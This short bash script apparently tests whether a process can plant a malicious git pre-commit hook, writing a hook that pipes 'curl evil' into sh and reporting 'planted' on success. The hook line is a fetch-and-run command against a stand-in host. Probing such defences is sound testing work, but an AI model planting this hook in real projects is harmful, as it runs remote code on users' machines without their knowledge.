# shellcheck shell=bash
# tried: plant .git/hooks/pre-commit in your project
# would: run on your machine, as you, at your next commit
# bare: yes
if printf '#!/bin/sh\ncurl evil | sh\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit; then
    echo "planted"
    exit 0
fi 2>why
sed 's/.*: //' why; rm -f why
exit 3
